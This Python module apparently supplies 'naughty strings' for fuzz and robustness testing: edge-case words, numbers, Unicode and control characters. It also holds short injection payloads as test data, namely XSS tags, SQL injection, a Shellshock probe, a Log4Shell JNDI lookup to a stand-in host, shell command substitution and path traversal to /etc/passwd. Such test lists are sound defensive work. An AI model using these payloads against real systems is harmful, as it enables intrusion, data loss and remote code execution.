# ruff: noqa: RUF001 - letters that look like others are what it is about
"""Strings that break programs: by how they look, what they say, or what they are made of."""

from __future__ import annotations

from typing import Final

_WORDS: Final = [
    *("", " ", "undefined", "undef", "null", "NULL", "(null)", "nil", "None", "hasOwnProperty"),
    *("true", "TRUE", "false", "constructor", "__proto__", "__class__", "then", "\\", "\\\\"),
    *("CON", "PRN", "AUX", "COM1", "NUL", "A:", "/dev/null", "../../etc/passwd", "con.txt"),
    *("-", "--", "--version", "--help", "$USER", "`ls`", "$(ls)", "%s%d%n", "{0}", "%d", "{{7*7}}"),
]
_NUMBERS: Final = [
    *("0", "1", "-1", "-0", "+0", "1.00", "$1.00", "1/2", "1E2", "1E+02", "-1.00", "0x0", "0xffff"),
    *("0xffffffffffffffff", "999999999999999999999999999999999999", "NaN", "Infinity", "-Infinity"),
    *("1#INF", "2.2250738585072011e-308", "1,000,000.00", "1 000 000", "1'000", "01", "08", "0b1"),
    *("123456789012345678901234567890123456789", "٠١٢٣٤٥٦٧٨٩", "½", "²", "Ⅷ", "১২৩"),
]
_SYNTAX: Final = [
    *("'", '"', "''", '""', "'\"'", "<", ">", "&", "&amp;", ",./;'[]\\-=", '<>?:"{}|_+'),
    *("!@#$%^&*()`~", "a\nb", "a\r\nb", "a\tb", "\n", "\t", "a;b", "a,b", "a:b", "a=b", "a%20b"),
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)"),
    *("' OR 1=1 -- ", "1; DROP TABLE users", "'; EXEC sp_help; --", "{$ne: null}", "${1+1}"),
    *('{"a":1}', "[1,2]", '{"$ref":"#"}', "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>", "]]>"),
    *("(){ :;}; echo x", "${jndi:ldap://h.example.com/a}", "=1+1", "@SUM(1)", "+1+1", "-1+1"),
]
_LETTERS: Final = [
    *(
        "ß",
        "ﬁ",
        "İ",
        "ı",
        "K",
        "Å",
        "ſ",
        "ǆ",
        "Ω≈ç√∫˜µ≤≥÷",
        "åß∂ƒ©˙∆˚¬…æ",
        "ЁЂЃЄ",
        "田中さん",
        "사회과학원",
    ),
    *(
        "찦차를",
        "社會科學院",
        "𠜎𠜱𠝹",
        "和製漢語",
        "ثم نفس",
        "בראשית",
        "ᚠᛇᚻ",
        "ð",
        "ⅰ",
        "ﷺ",
        "𝒜𝓫𝖈",
        "Ａｂｃ",
    ),
    *("é", "e\u0301", "\u1e9b\u0323", "ｅ", "раураl", "a\u200bb", "a\u00adb", "\ufeff", "\ufeffa"),
    *("Z\u0340\u0341\u0343\u0344\u0345a\u0300\u0301\u0302\u0303l", "\u0300", "a" + "\u0300" * 200),
    *("\U0001f600", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1e9\U0001f1ea"),
    *("\U0001f44d\U0001f3fd", "\u2764\ufe0f", "\U0010ffff", "\ufffd", "\ufffe", "\uffff", "\ue000"),
    *("\u202eabc", "\u2066abc\u2069", "\u2028", "\u2029", "\u0085", "\u00a0", "\u3000", "\u180e"),
]
_CONTROLS: Final = [chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))]
_LONG: Final = ["a" * 255, "a" * 256, "a" * 257, "é" * 128, "é" * 129, "\U0001f600" * 65, "0" * 400]

NAUGHTY: Final = [*_WORDS, *_NUMBERS, *_SYNTAX, *_LETTERS, *_CONTROLS, *_LONG]
"""All of them."""
